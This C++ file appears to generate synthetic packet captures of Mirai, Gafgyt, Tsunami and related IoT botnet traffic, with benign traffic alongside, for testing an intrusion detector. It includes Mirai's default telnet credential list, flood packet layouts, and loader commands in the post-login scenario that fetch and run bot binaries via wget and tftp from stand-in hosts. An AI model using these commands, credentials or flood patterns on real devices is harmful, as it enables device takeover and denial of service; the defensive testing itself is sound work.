// SPDX-License-Identifier: GPL-2.0-or-later
// The traffic behind each sense test. Numbers follow threats.md: Mirai's
// scanner (§2.3), credential table (§2.2), C2 (§2.6) and attacks (§2.7),
// Gafgyt (§3), Tsunami (§4), Umbreon (§6), Hajime/Mozi DHT (§7, §8).
// Addresses are documentation and private ranges only.
#include "scenarios.h"

#include <functional>
#include <map>
#include <random>

#include "pcap_writer.h"

namespace iotguard::testing {
namespace {

constexpr std::int64_t kT0 = 1700000000LL * 1000000;  // 2023-11-14T22:13:20Z

std::string rand_bytes(std::mt19937& r, std::size_t n) {
  std::string s(n, '\0');
  for (auto& c : s) c = static_cast<char>(r() & 0xff);
  return s;
}

Addr public_target(std::mt19937& r) {
  // 1.0.0.0 - 99.255.255.255, skipping 10/8 (Mirai skips private space too).
  for (;;) {
    const std::uint32_t v = (1U + r() % 99U) << 24 | (r() & 0xffffff);
    if ((v >> 24) != 10) return Addr::v4of(v);
  }
}

void mirai_scan(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  std::mt19937 r(7);
  const Addr bot = Addr::parse("192.168.1.50");
  std::int64_t t = kT0;
  for (int i = 0; i < 320; ++i) {
    const Addr dst = public_target(r);
    TcpHdr h;
    h.sport = 41234;  // fixed for the process (§2.3)
    h.dport = i % 10 == 0 ? 2323 : 23;
    h.seq = dst.v4value();
    h.flags = flags::syn;
    h.window = static_cast<std::uint16_t>(r());
    w.write_ip(t, ip_packet(bot, dst, 6, tcp_segment(h, ""), {static_cast<std::uint16_t>(r())}));
    t += 6250;  // 160 SYNs per second
  }
}

struct Cred {
  const char* user;
  const char* pass;
};
constexpr Cred kMiraiCreds[] = {{"root", "xc3511"},   {"root", "vizxv"},     {"admin", "admin"},
                                {"root", "888888"},   {"root", "xmhdipc"},   {"root", "default"},
                                {"root", "juantech"}, {"root", "123456"},    {"support", "support"},
                                {"root", "54321"},    {"admin", "password"}, {"root", "root"}};

// One failed telnet login the way Mirai's scanner does it.
void failed_login(PcapWriter& w, const Addr& a, std::uint16_t cport, const Addr& dev,
                  std::int64_t t, const Cred& c) {
  TcpSession s(w, a, cport, dev, 23, t);
  s.open();
  s.server("\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27");
  s.client("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27");
  s.server("\r\nBusyBox v1.19.4 built-in shell\r\n\r\nDVR login: ");
  s.client(std::string(c.user) + "\r\n");
  s.server("Password: ");
  s.client(std::string(c.pass) + "\r\n");
  s.wait(400000);
  s.server("\r\nLogin incorrect\r\n");
  s.close();
}

void telnet_bruteforce(const std::string& path) {
  PcapWriter w(path, Link::sll);
  const Addr bot = Addr::parse("192.168.1.66"), dev = Addr::parse("192.168.1.20");
  for (int i = 0; i < 12; ++i)
    failed_login(w, bot, static_cast<std::uint16_t>(40000 + i), dev, kT0 + i * 1500000LL,
                 kMiraiCreds[i]);
  const Addr bot6 = Addr::parse("fd00::66"), dev6 = Addr::parse("fd00::20");
  for (int i = 0; i < 6; ++i)
    failed_login(w, bot6, static_cast<std::uint16_t>(50000 + i), dev6,
                 kT0 + 30000000 + i * 1500000LL, kMiraiCreds[i]);
}

void successful_login(TcpSession& s, const char* user, const char* pass) {
  s.open();
  s.server("\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03");
  // WONT ECHO, WILL NAWS, SB NAWS 0 80 0 24 SE (Mirai's fixed 80x24, §2.3), DO ECHO, DO SGA.
  s.client(std::string(
      "\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03", 21));
  s.server("\r\ncamera login: ");
  s.client(std::string(user) + "\r\n");
  s.server("Password: ");
  s.client(std::string(pass) + "\r\n");
  s.server("\r\n\r\nBusyBox v1.22.1 built-in shell (ash)\r\n# ");
}

void post_login(const std::string& path) {
  PcapWriter w(path, Link::sll2, /*pcapng=*/true);
  const Addr loader = Addr::parse("203.0.113.77"), dev = Addr::parse("192.168.1.21");
  {
    TcpSession s(w, loader, 45001, dev, 23, kT0);
    successful_login(s, "root", "xc3511");
    for (const char* cmd : {"enable", "system", "shell", "sh"}) {
      s.client(std::string(cmd) + "\r\n");
      s.server("# ");
    }
    s.client("/bin/busybox MIRAI\r\n");
    s.server("/bin/busybox MIRAI\r\nMIRAI: applet not found\r\n# ");
    s.client("/bin/busybox ECCHI\r\n");
    s.server("ECCHI: applet not found\r\n# ");
    s.client("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n");
    s.client(
        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /tmp/.nippon; /bin/busybox cat "
        "/tmp/.nippon\r\n");
    s.client(
        "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n");
    s.client("/bin/busybox wget http://203.0.113.5:80/bins/mirai.arm7 -O - > dvrHelper\r\n");
    s.client("./dvrHelper telnet.arm7\r\n");
    s.server("listening tun0\r\n");
    s.close();
  }
  {
    const Addr gbot = Addr::parse("203.0.113.78"), dev2 = Addr::parse("192.168.1.22");
    TcpSession s(w, gbot, 45100, dev2, 23, kT0 + 20000000);
    successful_login(s, "root", "root");
    s.client("sh\r\n");
    s.client("/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n");
    s.server("gayfgt\r\n# ");
    s.client("cd /tmp; tftp -g -l bot -r sora.mips 203.0.113.6\r\n");
    s.close();
  }
}

void c2_mirai(const std::string& path) {
  PcapWriter w(path, Link::raw);
  const Addr bot = Addr::parse("10.0.0.7"), cnc = Addr::parse("203.0.113.10");
  TcpSession s(w, bot, 51000, cnc, 23, kT0);
  s.open();
  s.client(std::string("\x00\x00\x00\x01", 4));
  s.client(std::string("\x0a", 1));
  s.client("telnet.arm");
  for (int i = 0; i < 3; ++i) {
    s.wait(60000000);
    s.client(std::string("\x00\x00", 2));
    s.server(std::string("\x00\x00", 2));
  }
}

void c2_irc(const std::string& path) {
  PcapWriter w(path, Link::qinq);
  {
    TcpSession s(w, Addr::parse("10.0.0.8"), 52000, Addr::parse("198.51.100.20"), 6667, kT0);
    s.open();
    s.client("BUILD MIPS\n");
    s.server("PING\n");
    s.client("PONG\n");
    s.server("!* SCANNER ON\n");
    s.server("!* UDP 203.0.113.5 80 60 32 0 10\n");
    s.client("REPORT 192.0.2.44:root:xc3511\n");
  }
  {
    TcpSession s(w, Addr::parse("10.0.0.9"), 52001, Addr::parse("198.51.100.21"), 6667,
                 kT0 + 5000000);
    s.open();
    s.client("NICK [x86]kqxf\r\nUSER kqxf localhost localhost :kqxf\r\n");
    s.server(":irc.example 001 [x86]kqxf :Welcome\r\n");
    s.client("JOIN #kaiten :key\r\n");
    s.server(":boss!b@198.51.100.99 PRIVMSG #kaiten :!* TSUNAMI 203.0.113.5 60\r\n");
    s.client("NOTICE boss :Tsunami heading for 203.0.113.5\r\n");
  }
}

std::string krpc_query(const std::string& method, const std::string& tid) {
  const std::string id(20, 'N');
  std::string args = "d2:id20:" + id;
  if (method == "find_node" || method == "get_peers")
    args += (method == "find_node" ? "6:target20:" : "9:info_hash20:") + std::string(20, 'T');
  args += "e";
  return "d1:a" + args + "1:q" + std::to_string(method.size()) + ":" + method + "1:t" +
         std::to_string(tid.size()) + ":" + tid + "1:y1:qe";
}

void dht_device(const std::string& path) {
  PcapWriter w(path, Link::ethernet, /*pcapng=*/true);
  const Addr dev = Addr::parse("192.168.1.40");
  const char* nodes[] = {"212.129.33.59", "82.221.103.244", "130.239.18.159", "87.98.162.88"};
  std::int64_t t = kT0;
  int n = 0;
  for (const char* node : nodes) {
    w.write_ip(t, ip_packet(dev, Addr::parse(node), 17,
                            udp_datagram(12345, 6881,
                                         krpc_query("find_node", "aa" + std::to_string(n++)))));
    t += 300000;
  }
  for (int i = 0; i < 4; ++i) {
    w.write_ip(t, ip_packet(dev, Addr::parse("198.51.100." + std::to_string(30 + i)), 17,
                            udp_datagram(12345, static_cast<std::uint16_t>(20000 + i),
                                         krpc_query("ping", "pp"))));
    t += 500000;
  }
}

void floods(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  std::mt19937 r(11);
  const Addr victim = Addr::parse("203.0.113.50");
  const std::int64_t t0 = kT0;
  // Mirai "udp": 512 random bytes, random ports, 1200 packets in one second.
  for (int i = 0; i < 1200; ++i)
    w.write_ip(t0 + i * 800,
               ip_packet(Addr::parse("10.0.0.11"), victim, 17,
                         udp_datagram(static_cast<std::uint16_t>(r()),
                                      static_cast<std::uint16_t>(r()), rand_bytes(r, 512)),
                         {static_cast<std::uint16_t>(r())}));
  // Mirai "vse".
  const std::string vse = std::string("\xff\xff\xff\xff", 4) + "TSource Engine Query" + '\0';
  for (int i = 0; i < 100; ++i)
    w.write_ip(t0 + 2000000 + i * 9000,
               ip_packet(Addr::parse("10.0.0.12"), victim, 17,
                         udp_datagram(static_cast<std::uint16_t>(r()), 27015, vse)));
  // Mirai "ack": ACK with 512 random bytes, random ports and sequence numbers.
  for (int i = 0; i < 1200; ++i) {
    TcpHdr h;
    h.sport = static_cast<std::uint16_t>(r());
    h.dport = static_cast<std::uint16_t>(r());
    h.seq = r();
    h.ack = r();
    h.flags = flags::ack;
    h.window = static_cast<std::uint16_t>(r());
    w.write_ip(t0 + 4000000 + i * 800,
               ip_packet(Addr::parse("10.0.0.13"), victim, 6, tcp_segment(h, rand_bytes(r, 512))));
  }
  // Mirai "syn": DF, MSS 1400-1415, SACK-permitted, timestamp, NOP, window scale 6.
  for (int i = 0; i < 600; ++i) {
    TcpHdr h;
    h.sport = static_cast<std::uint16_t>(r());
    h.dport = 80;
    h.seq = r();
    h.flags = flags::syn;
    h.window = 0;
    const auto mss = static_cast<std::uint8_t>(0x78 + r() % 16);  // 1400 = 0x0578
    h.options = {2, 4, 0x05, mss, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 6};
    w.write_ip(t0 + 6000000 + i * 1600,
               ip_packet(Addr::parse("10.0.0.14"), victim, 6, tcp_segment(h, ""),
                         {static_cast<std::uint16_t>(r()), 64, true}));
  }
  // Mirai "greip": GRE carrying IP/UDP, inner ID = NOT outer ID.
  for (int i = 0; i < 1200; ++i) {
    const auto id = static_cast<std::uint16_t>(r());
    Buf inner = ip_packet(Addr::parse("10.0.0.15"), victim, 17,
                          udp_datagram(static_cast<std::uint16_t>(r()),
                                       static_cast<std::uint16_t>(r()), rand_bytes(r, 512)),
                          {static_cast<std::uint16_t>(~id)});
    Buf gre;
    put16(gre, 0);
    put16(gre, 0x0800);
    put(gre, inner);
    w.write_ip(t0 + 8000000 + i * 800, ip_packet(Addr::parse("10.0.0.15"), victim, 47, gre, {id}));
  }
}

void espeon(const std::string& path) {
  PcapWriter w(path, Link::raw);
  TcpHdr h;
  h.sport = 31337;
  h.dport = 22;
  h.seq = 0xc4;
  h.ack = 0xc500;
  h.flags = flags::ack;
  w.write_ip(kT0, ip_packet(Addr::parse("198.51.100.7"), Addr::parse("192.168.1.30"), 6,
                            tcp_segment(h, ""), {0x0fb1}));
  TcpHdr back;
  back.sport = 40001;
  back.dport = 31337;
  back.seq = 99;
  back.flags = flags::syn;
  w.write_ip(kT0 + 50000, ip_packet(Addr::parse("192.168.1.30"), Addr::parse("198.51.100.7"), 6,
                                    tcp_segment(back, "")));
}

// Real people logging in: character-at-a-time typing with remote echo, one typo.
void benign_telnet(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  const Addr admin = Addr::parse("192.168.1.5"), dev = Addr::parse("192.168.1.20");
  for (int i = 0; i < 3; ++i) {
    TcpSession s(w, admin, static_cast<std::uint16_t>(33000 + i), dev, 23, kT0 + i * 600000000LL);
    s.gap = 150000;
    s.open();
    s.server("\xff\xfd\x18\xff\xfb\x01\xff\xfb\x03");
    s.client("\xff\xfb\x18\xff\xfd\x01\xff\xfd\x03");
    const int tries = i == 0 ? 2 : 1;
    for (int k = 0; k < tries; ++k) {
      s.server("\r\nrouter login: ");
      for (char ch : std::string("alice")) {
        s.client(std::string(1, ch));
        s.server(std::string(1, ch));
      }
      s.client("\r\n");
      s.server("\r\nPassword: ");
      s.client(k + 1 < tries ? "correct horse\r\n" : "Correct-Horse-9\r\n");
      s.wait(2000000);
      if (k + 1 < tries) s.server("\r\nLogin incorrect\r\n");
    }
    s.server("\r\nWelcome to the router\r\n$ ");
    for (const char* cmd : {"uptime", "/bin/busybox ls /tmp", "ifconfig",
                            "wget http://192.168.1.2/fw/notes.txt", "exit"}) {
      s.wait(5000000);
      s.client(std::string(cmd) + "\r\n");
      s.server(std::string(cmd) + "\r\nok\r\n$ ");
    }
    s.close();
  }
}

// An nmap-style SYN scan: random sequence numbers, ports 1-1024.
void benign_portscan(const std::string& path) {
  PcapWriter w(path, Link::vlan);
  std::mt19937 r(5);
  const Addr scanner = Addr::parse("192.168.1.99"), target = Addr::parse("192.168.1.1");
  std::int64_t t = kT0;
  for (std::uint16_t port = 1; port <= 1024; ++port) {
    TcpHdr h;
    h.sport = 61000;
    h.dport = port;
    h.seq = r();
    h.flags = flags::syn;
    h.window = 1024;
    h.options = {2, 4, 0x05, 0xb4};
    w.write_ip(
        t, ip_packet(scanner, target, 6, tcp_segment(h, ""), {static_cast<std::uint16_t>(r())}));
    TcpHdr back;
    back.sport = port;
    back.dport = 61000;
    back.ack = h.seq + 1;
    const bool open = port == 22 || port == 23 || port == 80;
    back.flags = open ? (flags::syn | flags::ack) : (flags::rst | flags::ack);
    back.seq = open ? r() : 0;
    w.write_ip(t + 300, ip_packet(target, scanner, 6, tcp_segment(back, "")));
    if (open) {
      TcpHdr rst;
      rst.sport = 61000;
      rst.dport = port;
      rst.seq = h.seq + 1;
      rst.flags = flags::rst;
      w.write_ip(t + 600, ip_packet(scanner, target, 6, tcp_segment(rst, "")));
    }
    t += 1000;
  }
}

// A PC running a torrent client: DHT plus the peer wire protocol.
void benign_dht_pc(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  const Addr pc = Addr::parse("192.168.1.60");
  std::int64_t t = kT0;
  for (int i = 0; i < 20; ++i) {
    w.write_ip(t, ip_packet(pc, Addr::parse("198.51.100." + std::to_string(40 + i)), 17,
                            udp_datagram(51413, 6881,
                                         krpc_query(i % 2 ? "get_peers" : "find_node",
                                                    "t" + std::to_string(i)))));
    t += 100000;
  }
  TcpSession s(w, pc, 51500, Addr::parse("203.0.113.80"), 51413, t);
  s.open();
  s.client(std::string("\x13"
                       "BitTorrent protocol",
                       20) +
           std::string(8, '\0') + std::string(20, 'H') + "-TR4040-abcdefghijkl");
  s.server(std::string("\x13"
                       "BitTorrent protocol",
                       20) +
           std::string(8, '\0') + std::string(20, 'H') + "-qB4620-mnopqrstuvwx");
  s.close();
}

// A busy web client: many HTTP fetches with large responses, plus DNS.
void benign_web(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  std::mt19937 r(3);
  const Addr client = Addr::parse("192.168.1.70");
  const std::string body = rand_bytes(r, 30000);
  for (int i = 0; i < 300; ++i) {
    const Addr server = Addr::parse("198.51.100." + std::to_string(100 + i % 5));
    TcpSession s(w, client, static_cast<std::uint16_t>(40000 + i), server, 80, kT0 + i * 20000LL);
    s.gap = 10;
    s.open();
    s.client("GET /static/app" + std::to_string(i) + ".js HTTP/1.1\r\nHost: example.org\r\n\r\n");
    s.server("HTTP/1.1 200 OK\r\nContent-Length: 30000\r\n\r\n" + body);
    s.close();
    w.write_ip(kT0 + i * 20000LL + 5, ip_packet(client, Addr::parse("192.168.1.1"), 17,
                                                udp_datagram(53000, 53, rand_bytes(r, 40))));
  }
}

// Frames every decoder layer must reject without crashing.
void malformed(const std::string& path) {
  PcapWriter w(path, Link::ethernet);
  std::int64_t t = kT0;
  auto tcp = [](std::string_view payload) {
    TcpHdr h;
    h.sport = 1;
    h.dport = 23;
    h.flags = flags::ack;
    return ip_packet(Addr::parse("192.168.1.2"), Addr::parse("192.168.1.3"), 6,
                     tcp_segment(h, payload));
  };
  w.write_frame(t++, Buf{1, 2, 3});  // short Ethernet header
  Buf arp = frame(Link::ethernet, Buf(28, 0));
  arp[12] = 0x08;
  arp[13] = 0x06;
  w.write_frame(t++, arp);  // ARP: not IP
  Buf bad_ihl = frame(Link::ethernet, tcp("x"));
  bad_ihl[14] = 0x43;  // IHL 12 bytes
  w.write_frame(t++, bad_ihl);
  Buf bad_off = frame(Link::ethernet, tcp("x"));
  bad_off[14 + 20 + 12] = 0xf0;  // TCP data offset 60 > segment
  w.write_frame(t++, bad_off);
  Buf bad_udp =
      frame(Link::ethernet, ip_packet(Addr::parse("192.168.1.2"), Addr::parse("192.168.1.3"), 17,
                                      udp_datagram(1, 2, "abc")));
  bad_udp[14 + 20 + 4] = 0xff;  // UDP length past the packet
  w.write_frame(t++, bad_udp);
  Buf v6 = frame(Link::ethernet,
                 ip_packet(Addr::parse("fd00::1"), Addr::parse("fd00::2"), 0, Buf{6, 9, 0, 0}));
  w.write_frame(t++, v6);  // hop-by-hop header longer than the packet
  Buf tags = frame(Link::ethernet, tcp("x"));
  for (int i = 0; i < 5; ++i) tags.insert(tags.begin() + 12, {0x81, 0x00, 0x00, 0x01});
  w.write_frame(t++, tags);                                                      // five VLAN tags
  w.write_frame(t++, frame(Link::ethernet, tcp("/bin/busybox MIRAI\r\n")), 40);  // cut by snaplen
  w.write_frame(t++, frame(Link::ethernet, tcp("ok")));                          // a sound packet
}

const std::map<std::string, std::function<void(const std::string&)>>& table() {
  static const std::map<std::string, std::function<void(const std::string&)>> kTable = {
      {"mirai_scan", mirai_scan},
      {"telnet_bruteforce", telnet_bruteforce},
      {"post_login", post_login},
      {"c2_mirai", c2_mirai},
      {"c2_irc", c2_irc},
      {"dht_device", dht_device},
      {"floods", floods},
      {"espeon", espeon},
      {"benign_telnet", benign_telnet},
      {"benign_portscan", benign_portscan},
      {"benign_dht_pc", benign_dht_pc},
      {"benign_web", benign_web},
      {"malformed", malformed}};
  return kTable;
}

}  // namespace

const std::vector<std::string>& scenario_names() {
  static const std::vector<std::string> kNames = [] {
    std::vector<std::string> n;
    for (const auto& [k, v] : table()) n.push_back(k);
    return n;
  }();
  return kNames;
}

bool write_scenario(const std::string& name, const std::string& path) {
  auto it = table().find(name);
  if (it == table().end()) return false;
  it->second(path);
  return true;
}

std::uint64_t write_mixed(const std::string& path, std::uint64_t target_bytes) {
  PcapWriter w(path, Link::ethernet);
  std::mt19937 r(42);
  const std::string body = rand_bytes(r, 64000);
  const std::string rnd = rand_bytes(r, 4096);
  std::int64_t t = kT0;
  std::uint32_t round = 0;
  while (w.bytes() < target_bytes) {
    // Web: 20 clients x one 64 kB response each per round.
    for (int i = 0; i < 20; ++i) {
      const Addr client =
          Addr::v4of(0xc0a80000U | (round % 200U) << 8 | static_cast<std::uint32_t>(10 + i));
      const Addr server = Addr::v4of(0xc6336400U | static_cast<std::uint32_t>(i));  // 198.51.100.x
      TcpSession s(w, client, static_cast<std::uint16_t>(1024 + (round * 20 + i) % 60000), server,
                   80, t);
      s.gap = 5;
      s.open();
      s.client("GET /video/seg" + std::to_string(round) +
               ".ts HTTP/1.1\r\nHost: cdn.example\r\n\r\n");
      s.server("HTTP/1.1 200 OK\r\nContent-Length: 64000\r\n\r\n" + body);
      s.close();
      t = s.now();
    }
    // Attacks sprinkled through: Mirai SYNs, a failed telnet login, DNS, a UDP flood burst.
    const Addr bot = Addr::v4of(0xc0a80100U | (round % 50U));
    for (int i = 0; i < 40; ++i) {
      const Addr dst = public_target(r);
      TcpHdr h;
      h.sport = 41234;
      h.dport = i % 10 == 0 ? 2323 : 23;
      h.seq = dst.v4value();
      h.flags = flags::syn;
      w.write_ip(t, ip_packet(bot, dst, 6, tcp_segment(h, "")));
      t += 50;
    }
    failed_login(w, bot, static_cast<std::uint16_t>(40000 + round % 20000),
                 Addr::parse("192.168.9.9"), t, kMiraiCreds[round % 12]);
    for (int i = 0; i < 100; ++i) {
      w.write_ip(t, ip_packet(Addr::parse("10.9.0.1"), Addr::parse("203.0.113.50"), 17,
                              udp_datagram(static_cast<std::uint16_t>(r()),
                                           static_cast<std::uint16_t>(r()),
                                           std::string_view(rnd).substr(r() % 3000, 512))));
      t += 100;
    }
    ++round;
  }
  return w.bytes();
}

}  // namespace iotguard::testing
